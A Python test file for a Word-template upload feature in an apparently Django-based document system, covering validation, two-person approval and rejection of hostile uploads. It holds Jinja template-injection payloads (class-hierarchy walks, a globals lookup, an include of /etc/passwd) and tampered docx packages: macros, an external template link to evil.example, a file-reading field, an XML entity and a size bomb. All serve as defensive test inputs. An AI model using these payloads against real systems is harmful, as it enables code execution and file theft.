"""The office's own Word template: a dry run names what is wrong, two people put it in force, and it runs no program."""

import io
import zipfile

import pytest
from docx import Document

from longsha_credit.audit.workflow import Refused
from longsha_credit.exchange.models import DocumentTemplate
from longsha_credit.exchange.official import services, word
from longsha_credit.exchange.official.flows import FLOW
from longsha_credit.exchange.official.kinds import KINDS
from tests.commitments import ledger
from tests.exchange.official import making
from tests.exchange.official.test_issuing import words_of

KIND = KINDS["inspection-notice"]
GOOD = (
    "{{ 标题 }}",
    "{{ 发文字号 }}",
    "{%p for 段 in 正文 %}",
    "{{ 段 }}",
    "{%p endfor %}",
    "{{ 发文机关 }} {{ 成文日期 }}",
)


def docx(*lines, table=(("{%tr for 行 in 问题清单 %}",), ("{{ 行.问题 }}",), ("{%tr endfor %}",)), header=""):
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if table:
        grid = document.add_table(rows=len(table), cols=1)
        for row, (text,) in zip(grid.rows, table, strict=True):
            row.cells[0].text = text
    if header:
        document.sections[0].header.paragraphs[0].text = header
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def changed(data, name, change):
    """The package with one part changed."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            part = old.read(info)
            new.writestr(info.filename, change(part) if info.filename == name else part)
        if name not in old.namelist():
            new.writestr(name, change(b""))
    return target.getvalue()


@pytest.mark.parametrize("kind", KINDS.values(), ids=lambda kind: kind.key)
def test_our_own_layout_is_a_sound_template_of_every_kind(kind):
    trial = word.try_out(kind, word.starting_point(kind))
    assert (trial.faults, trial.missing, trial.unknown) == ([], [], [])
    said = "".join(words_of(trial.document))
    assert "{{" not in said and "{%" not in said
    for one in kind.tables:
        assert all(text in said for row in kind.example[one.name] for text in row.values())
    assert kind.sample.title in said


def test_the_dry_run_names_what_is_missing_and_what_is_unknown():
    assert word.try_out(KIND, docx(*GOOD, header="{{ 检查名称 }}")).is_good
    trial = word.try_out(
        KIND,
        docx(
            "{{ 标题 }}{{ 文号 }}",
            table=(("{%tr for 行 in 问题清单 %}",), ("{{ 行.金额 }}",), ("{%tr endfor %}",)),
        ),
    )
    assert trial.missing == ["发文字号", "发文机关", "成文日期", "正文"]
    assert trial.unknown == ["文号", "问题清单里的“金额”"]
    assert not trial.is_good


HOSTILE = {
    "a call": "{{ 标题.__class__.__mro__[1].__subclasses__() }}",
    "an attribute": "{{ 标题.__class__ }}",
    "an attribute of a row": "{%p for 行 in 问题清单 %}{{ 行.__class__.__init__ }}{%p endfor %}",
    "a filter": "{{ 标题|attr('__class__') }}",
    "arithmetic": "{{ 99999999 * '多' }}",
    "an import": "{% import 'os' as os %}",
    "an include": "{% include '/etc/passwd' %}",
    "an assignment": "{% set 标题 = 1 %}",
    "a macro": "{% macro m() %}{% endmacro %}",
    "a global": "{{ cycler.__init__.__globals__ }}",
    "range": "{% for n in range(999999999) %}x{% endfor %}",
    "a loop in a loop": "{% for 段 in 正文 %}{% for 行 in 正文 %}x{% endfor %}{% endfor %}",
    "half a tag": "{% if 标题 %}没有结束",
    "raw letters": "{{ 标题|safe }}",
}


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_template_is_refused_before_it_runs(line):
    for trial in (word.try_out(KIND, docx(*GOOD, line)), word.try_out(KIND, docx(*GOOD, header=line))):
        assert trial.faults and not trial.document
    with pytest.raises(word.Unusable):
        word.render(docx(*GOOD, line), KIND.example)


PACKAGES = {
    "macros": (lambda data: changed(data, "word/vbaProject.bin", lambda part: b"x"), "宏"),
    "a link outside": (
        lambda data: changed(
            data,
            "word/_rels/document.xml.rels",
            lambda part: part.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'),
        ),
        "指向外面",
    ),
    "a field that reads files": (
        lambda data: changed(data, "word/document.xml", lambda part: part.replace(b"<w:body>", b'<w:body><w:p><w:r><w:instrText>INCLUDETEXT "c:\\\\x"</w:instrText></w:r></w:p>')),
        "引用别的文件",
    ),
    "an entity": (
        lambda data: changed(data, "word/document.xml", lambda part: part.replace(b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document", 1)),
        "打不开",
    ),
    "a bomb": (lambda data: changed(data, "word/document.xml", lambda part: part + b" " * 30_000_000), "大得不正常"),
    "too long a text": (lambda data: changed(data, "word/document.xml", lambda part: part + b" " * 600_000), "文字太多"),
    "no package": (lambda data: b"PK\x03\x04 nothing", "打不开"),
    "another kind": (lambda data: b"%PDF-1.7", "打不开"),
    "too many fields": (lambda data: docx(*GOOD, *["{{ 标题 }}"] * 400), "太多"),
}  # fmt: skip


@pytest.mark.parametrize(("spoil", "says"), PACKAGES.values(), ids=PACKAGES)
def test_a_package_that_reaches_out_or_blows_up_is_refused(spoil, says):
    trial = word.try_out(KIND, spoil(docx(*GOOD)))
    assert [says in line for line in trial.faults] == [True]


def test_values_are_only_ever_text():
    values = KIND.example | {"标题": "{{ 7*7 }}<w:p/>&“引号”{%p", "正文": ["a\x00b", "<b>"]}
    said = words_of(word.render(docx(*GOOD), values))
    assert "{{ 7*7 }}<w:p/>&“引号”{%p" in said and "ab" in said and "<b>" in said


@pytest.mark.django_db
def test_a_second_person_puts_it_in_force_and_the_way_back_to_ours_stays_open(cast):
    slip = ledger.slip(cast, ledger.rectifying(cast))
    data = docx("本区自己的文头", *GOOD, table=())
    row = making.template(cast, data=data)
    with pytest.raises(Refused, match="另一个人"):
        FLOW.take(row, "enforce", by=cast.office)
    kind = KINDS[making.KIND]
    assert "本区自己的文头" not in words_of(services.draft_word(kind, slip))
    FLOW.take(row, "enforce", by=cast.reviewer)
    it = making.issued(cast, slip)
    with it.file.file.open("rb") as kept:
        said = words_of(kept.read())
    assert said[0] == "本区自己的文头" and it.number in said and it.template == row
    newer = making.template(cast, data=data)
    FLOW.take(newer, "enforce", by=cast.reviewer)
    row.refresh_from_db()
    assert (row.state, newer.version) == ("retired", 2)
    FLOW.take(newer, "retire", by=cast.office, reason="先用系统的")
    assert services.template_of(kind, cast.district) is None
    FLOW.take(row, "restore", by=cast.reviewer)
    assert services.template_of(kind, cast.street) == row


@pytest.mark.django_db
def test_a_faulty_upload_keeps_nothing_and_says_what_to_change(cast, client):
    client.force_login(cast.office)
    page = f"/desk/documents/templates/kind/{KIND.key}/new/"
    answer = client.post(page, {"file": making.file(docx("{{ 文号 }}")), "note": "第一版"})
    said = answer.content.decode()
    assert answer.status_code == 422 and "没有这样的栏目：文号" in said and "缺少必须有的栏目：标题" in said
    assert not DocumentTemplate.objects.exists()
    answer = client.post(page, {"file": making.file(docx(*GOOD)), "note": "第一版"}, follow=True)
    row = DocumentTemplate.objects.get()
    assert "试填通过" in answer.content.decode()
    trial = client.get(f"/desk/documents/templates/{row.pk}/trial/")
    assert KIND.sample.title in words_of(trial.content)
